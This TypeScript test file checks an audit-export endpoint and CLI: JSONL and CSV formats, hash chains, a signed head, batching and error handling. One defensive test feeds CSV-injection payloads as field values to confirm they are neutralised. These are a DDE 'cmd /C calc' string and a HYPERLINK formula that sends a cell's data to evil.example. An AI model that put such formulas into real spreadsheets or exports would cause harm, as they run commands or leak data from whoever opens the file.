import { MOVED_CLOCK_ENV } from '../support/clock';
import { createHash, verify } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { canonicalize } from 'json-canonicalize';
import { eventHash } from '@clusterflow/engine';
import { AuditExportService } from '@clusterflow/application/audit/audit-export.service';
import { csvValue } from '@clusterflow/application/audit/audit-export.format';
import { runCli } from '../support/cli';
import { startTestApp, type TestApp } from '../support/test-app';
import { AGENCY_A, AGENCY_B, AUDIT_TEMPLATE, buildAuditScenario, trailOf, type AuditScenario } from '../support/audit-scenario';

/**
 * The export, over HTTP (GET /audit/export) and from the command line (run as a process on
 * the build, like test/e2e/cli.test.ts), compared event by event with auditTrail, in both
 * formats; the closing head checked against the exported events and its signature.
 */

const EVENT_KEYS = ['kind', 'id', 'clusterId', 'seq', 'type', 'actor', 'actorName', 'role', 'at', 'payload', 'prevHash', 'hash'];

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (c === '"' && field === '') {
      for (i++; !(text[i] === '"' && text[i + 1] !== '"'); i++) {
        if (i >= text.length) throw new Error('an unterminated quoted field');
        if (text[i] === '"') i++; // a doubled quote
        field += text[i];
      }
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === '\n') {
      throw new Error(`a bare LF at ${i}: records end with CRLF`);
    } else {
      field += c;
      i++;
    }
  }
  if (field !== '' || row.length) throw new Error('the last record does not end with CRLF');
  return rows;
}

interface Export {
  events: any[];
  head: { head: Record<string, any>; publicKeyPem: string };
}

function fromJsonl(text: string): Export {
  expect(text.endsWith('\n')).toBe(true);
  const lines = text.slice(0, -1).split('\n').map((l) => JSON.parse(l));
  const last = lines.pop();
  expect(Object.keys(last)).toEqual(['kind', 'head', 'publicKeyPem', 'covered']);
  expect(Array.isArray(last.covered)).toBe(true);
  expect(last.kind).toBe('head');
  for (const l of lines) expect(Object.keys(l)).toEqual(EVENT_KEYS);
  return { events: lines.map(({ kind, ...e }) => (expect(kind).toBe('event'), e)), head: { head: last.head, publicKeyPem: last.publicKeyPem } };
}

function fromCsv(text: string): Export {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(EVENT_KEYS);
  for (const r of rows) expect(r).toHaveLength(EVENT_KEYS.length);
  const last = rows.pop()!;
  expect(last[0]).toBe('head');
  expect(last.filter((f, i) => i !== 0 && i !== 9)).toEqual(Array(10).fill(''));
  const head = JSON.parse(last[9]);
  expect(canonicalize(head)).toBe(last[9]);
  const events = rows.map(([kind, id, clusterId, seq, type, actor, actorName, role, at, payload, prevHash, hash]) => {
    expect(kind).toBe('event');
    expect(canonicalize(JSON.parse(payload))).toBe(payload);
    return { id, clusterId, seq: Number(seq), type, actor, actorName: actorName || null, role: role || null, at, payload: JSON.parse(payload), prevHash, hash };
  });
  return { events, head };
}

/** The agency's whole trail over GraphQL, in the export's order (cluster id, then seq). */
async function trailsOf(t: TestApp, token: string, clusters: string[]): Promise<any[]> {
  const all = [];
  for (const c of [...clusters].sort()) all.push(...(await trailOf(t, token, c)));
  return all;
}

/** The head covers exactly the exported events, and its signature checks with the exported key. */
function expectHeadOf(exported: Export, agency: string): void {
  const { head, publicKeyPem } = exported.head;
  const lastOf = new Map<string, any>();
  for (const e of exported.events) lastOf.set(e.clusterId, e);
  const list = [...lastOf.values()].sort((a, b) => (a.clusterId < b.clusterId ? -1 : 1)).map((e) => [e.clusterId, e.seq, e.hash]);
  expect(head).toMatchObject({ agency, clusters: lastOf.size, events: exported.events.length, root: createHash('sha256').update(canonicalize(list)).digest('hex') });
  const { signature, ...signed } = head;
  expect(verify(null, Buffer.from(canonicalize(signed)), publicKeyPem, Buffer.from(signature, 'base64'))).toBe(true);
}

describe('audit export', () => {
  let t: TestApp;
  let s: AuditScenario;
  let trailA: any[];
  beforeAll(async () => {
    t = await startTestApp('audit-export', MOVED_CLOCK_ENV);
    s = await buildAuditScenario(t);
    trailA = await trailsOf(t, s.tokens.auditor, [s.alpha, s.beta]);
  }, 60_000);
  afterAll(() => t.close());

  const download = (query: string, token?: string) => {
    const req = request(t.app.getHttpServer()).get(`/audit/export${query}`).buffer(true).parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (text += d));
      res.on('end', () => done(null, text));
    });
    return token ? req.set('authorization', `Bearer ${token}`) : req;
  };

  describe('over HTTP', () => {
    it('downloads the agency\'s trail as JSONL, streamed, as an attachment: the same events as auditTrail, then the signed head', async () => {
      const res = await download('?format=jsonl', s.tokens.auditor);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-audit-a-\d{8}T\d{6}Z\.jsonl"$/);
      expect(res.headers['transfer-encoding']).toBe('chunked');
      expect(res.headers['content-length']).toBeUndefined();
      const exported = fromJsonl(res.body);
      expect(exported.events).toEqual(trailA);
      for (const e of exported.events) expect(eventHash(e)).toBe(e.hash);
      expectHeadOf(exported, AGENCY_A);
    });

    it('downloads CSV: a header, one RFC 4180 row per event, and a last row of kind head', async () => {
      const res = await download('?format=csv', s.tokens.auditor);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-audit-a-\d{8}T\d{6}Z\.csv"$/);
      const exported = fromCsv(res.body);
      expect(exported.events).toEqual(trailA);
      expectHeadOf(exported, AGENCY_A);
    });

    it('neutralises fields a spreadsheet would run (OWASP CSV injection), reversibly: the hashes still check', async () => {
      const agency = 'audit-csv';
      const actor = '-2+3+cmd|\' /C calc\'!A0';
      const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
      const admin = await t.token({ userId: actor, name, agency, roles: ['agency_admin', 'auditor'] });
      const published = await t.gql('mutation($y: String!) { publishTemplate(source: $y) { key } }', { y: AUDIT_TEMPLATE }, admin);
      expect(published.body.errors).toBeUndefined();
      const registered = await t.gql('mutation { registerCluster(input: { templateKey: "audit-t", name: "@SUM(1+1)" }) { id } }', {}, admin);
      expect(registered.body.errors).toBeUndefined();
      const raw: string = (await download('?format=csv', admin)).body;
      // Every such field starts with a quote inside a quoted field; no cell starts with a formula character.
      expect(raw).toContain(`,"'${actor}",`);
      expect(raw).toContain(`,"'${name.replace(/"/g, '""')}",`);
      for (const row of parseCsv(raw)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const [event] = fromCsv(raw).events.map((e) => ({ ...e, actor: csvValue(e.actor), actorName: csvValue(e.actorName) }));
      expect(event).toMatchObject({ type: 'REGISTERED', actor, actorName: name, payload: expect.objectContaining({ name: '@SUM(1+1)' }) });
      expect(eventHash(event)).toBe(event.hash);
    });

    it('exports one cluster with ?cluster=, and another agency only its own', async () => {
      const one = fromJsonl((await download(`?format=jsonl&cluster=${s.alpha}`, s.tokens.auditor)).body);
      expect(one.events).toEqual(await trailOf(t, s.tokens.auditor, s.alpha));
      expect(one.head.head).toMatchObject({ agency: AGENCY_A, clusters: 2 }); // the head is always the agency's
      const b = fromCsv((await download('?format=csv', s.tokens.auditorB)).body);
      expect(b.events).toEqual(await trailOf(t, s.tokens.auditorB, s.gamma));
      expectHeadOf(b, AGENCY_B);
      // Any member of the agency, not only auditors.
      expect((await download('?format=jsonl', s.tokens.rui)).status).toBe(200);
    });

    it('reads in batches without losing or repeating an event at a batch or cluster boundary', async () => {
      const exporter = t.app.get(AuditExportService);
      const before = exporter.batchSize;
      try {
        for (const size of [1, 3, 7]) {
          exporter.batchSize = size;
          expect(fromJsonl((await download('?format=jsonl', s.tokens.auditor)).body).events).toEqual(trailA);
          expect(fromJsonl((await download(`?format=jsonl&cluster=${s.beta}`, s.tokens.auditor)).body).events).toEqual(await trailOf(t, s.tokens.auditor, s.beta));
        }
      } finally {
        exporter.batchSize = before;
      }
    });

    it('answers 401 without a token, 404 for another agency\'s or an unknown cluster, 400 for an unknown format, in that order', async () => {
      const expectError = (res: request.Response, status: number, code: string, message?: RegExp) => {
        expect(res.status).toBe(status);
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.headers['content-disposition']).toBeUndefined();
        expect(JSON.parse(res.body)).toEqual({ errors: [{ message: message ? expect.stringMatching(message) : expect.any(String), extensions: { code } }] });
      };
      expectError(await download('?format=jsonl'), 401, 'UNAUTHENTICATED');
      expectError(await download('?format=jsonl', 'not-a-token'), 401, 'UNAUTHENTICATED');
      for (const cluster of [s.gamma, '00000000-0000-4000-8000-000000000000', 'nope']) {
        expectError(await download(`?format=jsonl&cluster=${cluster}`, s.tokens.auditor), 404, 'NOT_FOUND');
      }
      expectError(await download('?format=xml', s.tokens.auditor), 400, 'BAD_USER_INPUT', /^format must be one of csv, jsonl, not "xml"$/);
      expectError(await download('', s.tokens.auditor), 400, 'BAD_USER_INPUT', /format must be one of csv, jsonl \(it is required\)/);
      expectError(await download(`?format=xml&cluster=${s.gamma}`, s.tokens.auditor), 404, 'NOT_FOUND');
    });

    it('stops reading when the client goes away, and keeps serving', async () => {
      const exporter = t.app.get(AuditExportService);
      const before = exporter.batchSize;
      exporter.batchSize = 1;
      try {
        const { port } = t.app.getHttpServer().address() as AddressInfo;
        await new Promise<void>((resolve, reject) => {
          const req = httpRequest({ host: '127.0.0.1', port, path: '/audit/export?format=jsonl', headers: { authorization: `Bearer ${s.tokens.auditor}` } }, (res) => {
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          });
          req.on('error', (e) => ((e as NodeJS.ErrnoException).code === 'ECONNRESET' ? resolve() : reject(e)));
          req.end();
        });
      } finally {
        exporter.batchSize = before;
      }
      await new Promise((r) => setTimeout(r, 100));
      expect(fromJsonl((await download('?format=jsonl', s.tokens.auditor)).body).events).toEqual(trailA);
    });
  });

  describe('npm run cli -- audit export', () => {
    it('writes the same JSONL and CSV to stdout, the events equal to auditTrail, the head signed', async () => {
      const jsonl = await runCli(t, ['audit', 'export', '--agency', AGENCY_A, '--format', 'jsonl']);
      expect(jsonl.stderr).toBe(`exported ${trailA.length} events of 2 clusters\n`);
      expect(jsonl.status).toBe(0);
      const fromJ = fromJsonl(jsonl.stdout);
      expect(fromJ.events).toEqual(trailA);
      expectHeadOf(fromJ, AGENCY_A);
      const http = await download('?format=jsonl', s.tokens.auditor);
      const withoutHead = (text: string) => text.slice(0, text.lastIndexOf('{"kind":"head"'));
      expect(withoutHead(jsonl.stdout)).toBe(withoutHead(http.body));

      const csv = await runCli(t, ['audit', 'export', '--agency', AGENCY_A, '--format', 'csv']);
      expect(csv.status).toBe(0);
      const fromC = fromCsv(csv.stdout);
      expect(fromC.events).toEqual(trailA);
      expectHeadOf(fromC, AGENCY_A);
    });

    it('exports one cluster with --cluster', async () => {
      const res = await runCli(t, ['audit', 'export', '--agency', AGENCY_B, '--format', 'jsonl', '--cluster', s.gamma]);
      expect(res.status).toBe(0);
      expect(fromJsonl(res.stdout).events).toEqual(await trailOf(t, s.tokens.auditorB, s.gamma));
    });

    it('refuses bad arguments with usage (exit 2), and another agency\'s cluster as not found (exit 2)', async () => {
      const bad = await runCli(t, ['audit', 'export', '--agency', AGENCY_A, '--format', 'xml']);
      expect(bad.status).toBe(2);
      expect(bad.stdout).toBe('');
      expect(bad.stderr).toMatch(/--format must be one of csv, jsonl\nusage: npm run cli -- audit export --agency <slug> --format csv\|jsonl \[--cluster <id>\]/);
      expect((await runCli(t, ['audit', 'export', '--format', 'csv'])).status).toBe(2);
      const foreign = await runCli(t, ['audit', 'export', '--agency', AGENCY_A, '--format', 'csv', '--cluster', s.gamma]);
      expect(foreign.status).toBe(2);
      expect(foreign.stdout).toBe('');
      expect(foreign.stderr).toBe(`cluster ${s.gamma} not found in agency ${AGENCY_A}\n`);
    });
  });
});
